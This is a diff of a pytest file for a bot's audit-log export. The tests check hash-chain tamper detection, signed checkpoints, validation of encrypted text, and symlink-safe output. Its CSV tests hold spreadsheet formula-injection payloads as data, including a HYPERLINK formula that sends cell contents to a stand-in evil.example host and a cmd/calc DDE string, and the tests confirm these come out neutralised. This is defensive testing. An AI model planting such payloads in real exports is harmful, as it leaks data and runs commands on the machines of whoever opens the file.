@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import argparse
 import csv
 import io
 import json
@@ -12,6 +13,7 @@ from datetime import UTC, datetime, timedelta, timezone
 from pathlib import Path
 
 import pytest
+from pydantic import SecretStr
 from sqlalchemy import text
 from sqlalchemy.ext.asyncio import AsyncEngine
 
@@ -20,6 +22,7 @@ from bot.audit.chain import GENESIS, record_hash
 from bot.audit.checkpoint import (
     ChainHead,
     format_line,
+    head_problem,
     parse,
     read_head,
     sign,
@@ -29,8 +32,9 @@ from bot.audit.checkpoint import (
 )
 from bot.audit.export import (
     FIELDS,
-    OPTIONAL_HASHED,
     TEXT_FIELDS,
+    TextProblems,
+    csv_cell,
     export_rows,
     hash_input,
     open_output,
@@ -39,14 +43,13 @@ from bot.audit.export import (
     write_jsonl,
 )
 from bot.audit.signing import load_key
+from bot.cli.audit import audit_export
 from bot.db import Database
 from bot.errors import ConfigurationError, InputError
-from tests.db.audit_support import raw_sql
+from bot.settings import DatabaseSettings, KuraSettings
+from tests.db.audit_support import raw_sql, rewrite_chain, version_1_records
 
 pytestmark = pytest.mark.db
-
-# Fields covered by the chain hash (everything exported but the chain's own bookkeeping).
-_HASHED = [f for f in FIELDS if f not in ("key_id", "prev_hash", "hash")]
 
 
 def _entry(i: int) -> AuditEntry:
@@ -200,7 +203,7 @@ async def test_text_is_exported_only_when_asked_and_decrypted(audit: AuditStore)
 async def test_text_under_another_key_is_a_configuration_error(db: Database, audit: AuditStore, tmp_path: Path) -> None:
     """A record encrypted under a key other than the configured one stops the export with a reason."""
     await audit.append(_entry(0))
-    other = AuditStore(db.sessions, TextCipher.from_file(tmp_path / "other.key"))
+    other = AuditStore(db.sessions, TextCipher.from_file(tmp_path / "other.key", create=True))
     with pytest.raises(ConfigurationError, match="record 1: its text does not decrypt"):
         await _jsonl(other, include_text=True)
     assert 1 == len(await _jsonl(other))  # without text the key does not matter
@@ -295,6 +298,7 @@ def test_key_file_is_created_private_and_reused(tmp_path: Path) -> None:
     assert first == load_key(path, create=False)
     short = tmp_path / "short.key"
     short.write_bytes(b"x" * 16)
+    short.chmod(0o600)
     with pytest.raises(ConfigurationError, match="at least 32 bytes"):
         load_key(short, create=False)
 
@@ -375,25 +379,13 @@ async def test_rewritten_chain_is_caught_by_the_checkpoint(
     for i in range(4):
         await audit.append(_entry(i))
     line = format_line(sign(await read_head(audit), key))
-    async with db.engine.connect() as conn:
-        rows = (await conn.execute(text("SELECT * FROM audit_records WHERE seq >= 3 ORDER BY seq"))).mappings().all()
-    prev = rows[0]["prev_hash"]
-    for row in rows:
-        fields = {f: row[f] for f in _HASHED if not (f in OPTIONAL_HASHED and row[f] is None)}
-        fields["created_at"] = row["created_at"].astimezone(UTC).isoformat()
-        fields["user_email"] = "mallory@example.co.jp"
-        new = record_hash(fields, prev)
-        await raw_sql(
-            dba,
-            f"UPDATE audit_records SET user_email = 'mallory@example.co.jp', prev_hash = '{prev}', hash = '{new}' "
-            f"WHERE seq = {row['seq']}",
-        )
-        prev = new
+    await rewrite_chain(dba, 3, lambda record: setattr(record, "user_email", "mallory@example.co.jp"))
     assert (await audit.verify()).ok
     check = await verify_checkpoint(audit, parse(line), key)
-    assert (False, "record 4 no longer has the checkpointed hash") == (check.ok, check.problem)
+    assert not check.ok
+    assert check.problem.startswith("record 4 no longer has the checkpointed hash")
     await raw_sql(dba, "DELETE FROM audit_records WHERE seq = 4")
-    assert "record 4 is missing" == (await verify_checkpoint(audit, parse(line), key)).problem
+    assert (await verify_checkpoint(audit, parse(line), key)).problem.startswith("record 4 is missing")
 
 
 async def test_empty_log_checkpoint(audit: AuditStore, key: bytes) -> None:
@@ -415,3 +407,230 @@ async def test_exported_text_can_be_redacted(audit: AuditStore) -> None:
     assert "taro@example.co.jp" not in str(redacted[0]["question"])
     assert "090-1234-5678" not in str(redacted[0]["question"])
     assert plain[0]["hash"] == redacted[0]["hash"]
+
+
+# --- exported text is checked against its hash -------------------------------------------------
+
+
+async def _checked(audit: AuditStore, **options: object) -> tuple[list[dict[str, object]], TextProblems]:
+    problems = TextProblems()
+    rows = await _jsonl(audit, include_text=True, problems=problems, **options)
+    return rows, problems
+
+
+async def test_exported_text_that_matches_its_hash_is_ok(audit: AuditStore, dba: AsyncEngine) -> None:
+    """Every row says ``text_check``: ok while the text is held and matches, purged once retention
+    removed it (the answer only removed: still ok); nothing is reported."""
+    for i in range(3):
+        await audit.append(_entry(i))
+    await raw_sql(dba, "UPDATE audit_records SET question_enc = NULL, answer_enc = NULL WHERE seq = 2")
+    await raw_sql(dba, "UPDATE audit_records SET answer_enc = NULL WHERE seq = 3")
+    rows, problems = await _checked(audit)
+    assert ["ok", "purged", "ok"] == [r["text_check"] for r in rows]
+    assert (None, None) == (rows[1]["question"], rows[1]["answer"])
+    assert (_entry(2).question, None) == (rows[2]["question"], rows[2]["answer"])
+    assert 0 == problems.count
+
+
+async def test_text_altered_by_someone_holding_the_key_is_flagged(
+    db: Database, audit: AuditStore, dba: AsyncEngine, tmp_path: Path
+) -> None:
+    """Someone with the database and the audit key re-encrypts other text into a record (correctly
+    bound, so it decrypts): the export still shows it, flagged ``mismatch``, and reports the record."""
+    for i in range(3):
+        await audit.append(_entry(i))
+    cipher = TextCipher.from_file(tmp_path / "audit.key")
+    async with db.engine.connect() as conn:
+        record_id = (await conn.execute(text("SELECT id FROM audit_records WHERE seq = 2"))).scalar_one()
+    forged = cipher.encrypt("経費精算の締め日は月末です", record_id, "answer")
+    async with dba.begin() as conn:
+        await conn.execute(text("SET LOCAL session_replication_role = replica"))
+        await conn.execute(text("UPDATE audit_records SET answer_enc = :b WHERE seq = 2"), {"b": forged})
+    assert (await audit.verify()).ok  # the chain covers the text's sha256, not its ciphertext
+    rows, problems = await _checked(audit)
+    assert ["ok", "mismatch", "ok"] == [r["text_check"] for r in rows]
+    assert "経費精算の締め日は月末です" == rows[1]["answer"]
+    assert 1 == problems.count
+    assert [(2, "its answer does not match the sha256 the chain holds: altered")] == problems.first
+    # Redaction changes what is shown, not what is checked.
+    redacted, again = await _checked(audit, redact_text=True)
+    assert ["ok", "mismatch", "ok"] == [r["text_check"] for r in redacted]
+    assert 1 == again.count
+
+
+async def test_swapped_text_is_flagged_in_old_and_new_records(
+    audit: AuditStore, dba: AsyncEngine, tmp_path: Path
+) -> None:
+    """Question and answer ciphertexts swapped by the owner: a version 1 record (text bound to the
+    record only) still decrypts, to the wrong text, and is caught by its hash (``mismatch``); a
+    version 2 record does not decrypt at all (``undecryptable``). The export goes on past both."""
+    await version_1_records(dba, (tmp_path / "audit.key").read_bytes(), 2)
+    await audit.append(_entry(3))
+    await audit.append(_entry(4))
+    await raw_sql(
+        dba, "UPDATE audit_records SET question_enc = answer_enc, answer_enc = question_enc WHERE seq IN (1, 3)"
+    )
+    rows, problems = await _checked(audit)
+    assert [1, 1, 2, 2] == [r["chain_version"] for r in rows]
+    assert ["mismatch", "ok", "undecryptable", "ok"] == [r["text_check"] for r in rows]
+    assert ("旧い答え 1", "旧い質問 1") == (rows[0]["question"], rows[0]["answer"])
+    assert (None, None) == (rows[2]["question"], rows[2]["answer"])
+    assert [1, 3] == [seq for seq, _ in problems.first]
+    assert "its question does not decrypt under its own key" in problems.first[1][1]
+
+
+async def test_rows_of_both_chain_versions_rehash(audit: AuditStore, dba: AsyncEngine, tmp_path: Path) -> None:
+    """A SIEM re-hashes every exported row from its own fields and chain_version, old and new."""
+    await version_1_records(dba, (tmp_path / "audit.key").read_bytes(), 2)
+    await audit.append(_entry(3))
+    rows = await _jsonl(audit)
+    assert [1, 1, 2] == [r["chain_version"] for r in rows]
+    assert "key_id" not in hash_input(rows[0])
+    assert "key_id" in hash_input(rows[2])
+    for row in rows:
+        assert row["hash"] == record_hash(hash_input(row), str(row["prev_hash"]), int(str(row["chain_version"])))
+    # A version no code knows is exported as it is (verification names the record), not a crash.
+    await raw_sql(dba, "UPDATE audit_records SET chain_version = 7 WHERE seq = 3")
+    assert 7 == (await _jsonl(audit, include_text=True))[2]["chain_version"]
+
+
+# --- CSV cells a spreadsheet would run ---------------------------------------------------------------
+
+_FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\u3000=1+1",  # ideographic space first
+    "\n=1+1",
+    "＝1+1",  # full-width
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    "﹦1+1",  # small form
+    "﹢1",
+    "﹣1",
+    "\t",
+]
+
+
+@pytest.mark.parametrize("value", _FORMULAS)
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(value: str) -> None:
+    """A cell that starts with = + - @ (after any whitespace, in any width) or with a tab or carriage
+    return gets a leading ' so a spreadsheet shows it as text."""
+    assert "'" + value == csv_cell(value)
+
+
+@pytest.mark.parametrize("value", ["a=b", "経費精算", "1-2", "", " ", "'=already", "メール@example"])
+def test_ordinary_csv_cells_are_left_alone(value: str) -> None:
+    """Nothing else changes; numbers, booleans and JSON cells are written as they are."""
+    assert value == csv_cell(value)
+    assert ("-1", "true", '["=x"]') == (csv_cell(-1), csv_cell(True), csv_cell(["=x"]))
+
+
+async def test_csv_export_neutralises_formulas_in_every_text_column(audit: AuditStore) -> None:
+    """A question, answer, email or channel that starts a formula arrives in the CSV prefixed; JSONL
+    keeps the exact value."""
+    evil = '=HYPERLINK("http://evil.example/?"&B2,"here")'
+    await audit.append(
+        AuditEntry(
+            **{
+                **_entry(0).__dict__,
+                "question": evil,
+                "answer": "＋cmd|' /C calc'!A0",
+                "channel_id": "@C1",
+                "user_ref": "-U1",
+            }
+        )
+    )
+    out = io.StringIO(newline="")
+    async with aclosing(export_rows(audit, include_text=True)) as rows:
+        await write_csv(rows, out, [*FIELDS, *TEXT_FIELDS])
+    cell = next(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    assert ("'" + evil, "'＋cmd|' /C calc'!A0", "'@C1", "'-U1") == (
+        cell["question"],
+        cell["answer"],
+        cell["channel_id"],
+        cell["user_ref"],
+    )
+    assert evil == (await _jsonl(audit, include_text=True))[0]["question"]
+
+
+# --- the output file: no planted link is followed --------------------------------------------------
+
+
+def test_a_link_planted_at_the_temporary_name_is_not_followed(tmp_path: Path) -> None:
+    """Someone who can write the export's folder plants links at the old predictable temporary name
+    and at the target itself, pointing at a file they want overwritten (or read): the export writes
+    only a new file of its own, replaces the link at the target, and leaves the victim untouched."""
+    victim = tmp_path / "victim.txt"
+    victim.write_text("precious\n", encoding="utf-8")
+    target = tmp_path / "audit.jsonl"
+    (tmp_path / "audit.jsonl.part").symlink_to(victim)
+    with open_output(target) as out:
+        out.write('{"seq":1}\n')
+    assert "precious\n" == victim.read_text(encoding="utf-8")
+    assert not target.is_symlink()
+    assert '{"seq":1}\n' == target.read_text(encoding="utf-8")
+    assert 0o600 == stat.S_IMODE(target.stat().st_mode)
+
+    second = tmp_path / "second.csv"
+    second.symlink_to(victim)
+    with open_output(second) as out:
+        out.write("seq\n")
+    assert "precious\n" == victim.read_text(encoding="utf-8")
+    assert (False, "seq\n") == (second.is_symlink(), second.read_text(encoding="utf-8"))
+    leftovers = sorted(p.name for p in tmp_path.iterdir())
+    assert ["audit.jsonl", "audit.jsonl.part", "second.csv", "victim.txt"] == leftovers
+
+
+# --- a rewritten or cut chain against a checkpoint ------------------------------------------------
+
+
+async def test_head_problem_names_a_rewrite_and_a_cut_tail(audit: AuditStore, key: bytes, dba: AsyncEngine) -> None:
+    """Cutting the tail leaves a chain that verifies; the checkpoint says the record is gone and
+    where the chain now ends. A consistent rewrite below the checkpoint: its hash is gone."""
+    for i in range(5):
+        await audit.append(_entry(i))
+    signed = sign(await read_head(audit), key)
+    assert "" == await head_problem(audit, signed, key)
+    await raw_sql(dba, "DELETE FROM audit_records WHERE seq >= 4")
+    assert (await audit.verify()).ok
+    assert "record 5 is missing: the chain ends at record 3 (its tail was cut)" == await head_problem(
+        audit, signed, key
+    )
+    older = sign(await read_head(audit), key)
+    await rewrite_chain(dba, 2, lambda record: setattr(record, "allowed", False))
+    assert (await audit.verify()).ok
+    assert "record 3 no longer has the checkpointed hash: the chain was rewritten" == await head_problem(
+        audit, older, key
+    )
+
+
+async def test_the_export_command_names_bad_text_and_exits_1(
+    db: Database, audit: AuditStore, dba: AsyncEngine, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """``kura audit export --include-text`` writes every row, then names each record whose text
+    failed its check on stderr and exits 1; without text nothing is checked and it exits 0."""
+    for i in range(3):
+        await audit.append(_entry(i))
+    await raw_sql(dba, "UPDATE audit_records SET question_enc = answer_enc, answer_enc = question_enc WHERE seq = 2")
+    url = db.engine.url.render_as_string(hide_password=False)
+    settings = KuraSettings(
+        data_dir=tmp_path / "data", database=DatabaseSettings(url=SecretStr(url)), audit_key_file=tmp_path / "audit.key"
+    )
+    out = tmp_path / "audit.jsonl"
+    args = argparse.Namespace(since=None, until=None, include_text=True, format="jsonl", output=str(out), redact=False)
+    assert 1 == await audit_export(settings, args)
+    err = capsys.readouterr().err.strip().splitlines()
+    assert [
+        "warning: audit record 2: its question does not decrypt under its own key: altered or moved; "
+        "its answer does not decrypt under its own key: altered or moved",
+        "FAILED: the text of 1 exported records does not match what the chain recorded (see text_check)",
+    ] == err
+    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
+    assert ["ok", "undecryptable", "ok"] == [r["text_check"] for r in rows]
+    assert 0 == await audit_export(settings, argparse.Namespace(**(vars(args) | {"include_text": False})))
